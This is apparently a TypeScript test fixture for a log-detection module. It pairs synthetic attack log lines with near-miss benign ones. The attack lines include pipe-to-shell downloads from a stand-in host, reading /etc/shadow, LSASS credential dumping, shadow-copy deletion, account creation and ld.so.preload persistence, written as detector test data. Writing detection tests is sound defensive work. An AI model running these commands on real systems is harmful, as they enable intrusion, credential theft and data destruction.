import type { LOG } from '../../../src/analysis/log/signals.ts';
import { many, type Pairs, within } from './pair.ts';

const access = (request: string, status = 200) =>
  `198.51.100.7 - - [21/Nov/2026:07:00:00 +0000] "${request} HTTP/1.1" ${status} 512 "-" "Mozilla/5.0"`;
const blocked = (port: number) =>
  `kernel: [UFW BLOCK] IN=eth0 SRC=198.51.100.7 DST=203.0.113.5 PROTO=TCP SPT=40001 DPT=${port}`;
const ssh = (times: number, what = 'Failed') =>
  many(times, () => `sshd[9]: ${what} password for anna from 198.51.100.7 port 4001 ssh2`);

const sudo = within((piece) => `Nov 21 07:00:00 web sudo: ${piece}`);
const command = within((piece) => `Nov 21 07:00:00 web CRON[9]: (anna) CMD (${piece})`);
const process = within((piece) => `EventID: 4688 New process, command line: ${piece}`);
const line = within((piece) => `Nov 21 07:00:00 web ${piece}`);

export const SHOWN_LOG: Pairs<typeof LOG> = {
  ports: { shown: many(5, (index) => blocked(21 + index)), near: many(5, () => blocked(443)) },
  authors: {
    shown: many(3, (index) => access(`GET /?author=${index + 1}`)),
    near: many(3, () => access('GET /?author=1')),
  },
  someFailures: { shown: ssh(5), near: ssh(4) },
  someLogins: {
    shown: many(6, () => access('POST /wp-login.php')),
    near: many(6, () => access('POST /wp-login.php', 302)),
  },
  remoteCalls: {
    shown: many(8, () => access('POST /xmlrpc.php')),
    near: many(8, () => access('GET /xmlrpc.php')),
  },
  loginAfterFailures: {
    shown: `${ssh(3)}\n${ssh(1, 'Accepted')}`,
    near: `${ssh(2)}\n${ssh(1, 'Accepted')}`,
  },
  banned: line(
    'fail2ban.actions [812]: NOTICE [sshd] Ban 198.51.100.7',
    'fail2ban.actions [812]: NOTICE [sshd] Unban 198.51.100.7',
  ),
  serviceSudo: sudo(
    'www-data : TTY=pts/0 ; USER=root ; COMMAND=/usr/bin/id',
    'anna : TTY=pts/0 ; USER=root ; COMMAND=/usr/bin/id',
  ),
  notAllowed: sudo(
    'anna : command not allowed ; USER=root ; COMMAND=/usr/bin/apt',
    'anna : TTY=pts/0 ; USER=root ; COMMAND=/usr/bin/apt',
  ),
  secretsRead: sudo(
    'anna : USER=root ; COMMAND=/usr/bin/cat /etc/shadow',
    'anna : USER=root ; COMMAND=/usr/bin/cat /etc/hosts',
  ),
  rootAccount: line(
    'useradd[9]: new user: name=anna, UID=0, GID=0, home=/root',
    'useradd[9]: new user: name=anna, UID=1001, GID=1001, home=/home/anna',
  ),
  newAdministrator: line("usermod[9]: add 'anna' to group 'sudo'", "usermod[9]: add 'anna' to group 'audio'"),
  codeEdited: line('wordpress: Theme file edited: header.php', 'wordpress: Theme file viewed: header.php'),
  logCleared: line('eventlog: The audit log was cleared.', 'eventlog: The audit log was archived.'),
  webProcess: process(
    String.raw`C:\Windows\System32\inetsrv\w3wp.exe > C:\Windows\System32\cmd.exe`,
    String.raw`C:\Windows\explorer.exe > C:\Windows\System32\cmd.exe`,
  ),
  hiddenPowerShell: process(
    `powershell.exe -w ${'hid'}den -File report.ps1`,
    'powershell.exe -NoLogo -File report.ps1',
  ),
  downloadAndRun: process(
    'certutil.exe -urlcache -f https://files.example/a a',
    'certutil.exe -hashfile a SHA256',
  ),
  pipedToShell: command(
    'curl -s https://files.example/a | sh',
    'curl -s https://files.example/a | sha256sum',
  ),
  decodedToShell: command('base64 -d /opt/job | sh', 'base64 -d /opt/job > /opt/job.bin'),
  fromBareAddress: command('wget http://198.51.100.7/a.tgz', 'wget http://files.example/a.tgz'),
  copiesDeleted: process('vssadmin delete shadows /all', 'vssadmin list shadows'),
  credentialsDumped: process('procdump -ma lsass.exe a.dmp', 'procdump -ma shop.exe a.dmp'),
  accountByCommand: process('net user support Pass-1 /add', 'net user support'),
  remoteService: process('service installed: PSEXESVC', 'service installed: BackupAgent'),
  miner: command('/opt/xmrig -c a.json', '/opt/mine -c a.json'),
  preload: command('cp a /etc/ld.so.preload', 'cp a /etc/ld.so.conf'),
  hiddenProgram: command('/tmp/.cache/agent', '/tmp/cache/agent'),
  setUid: command('chmod u+s /opt/tool', 'chmod u+x /opt/tool'),
};
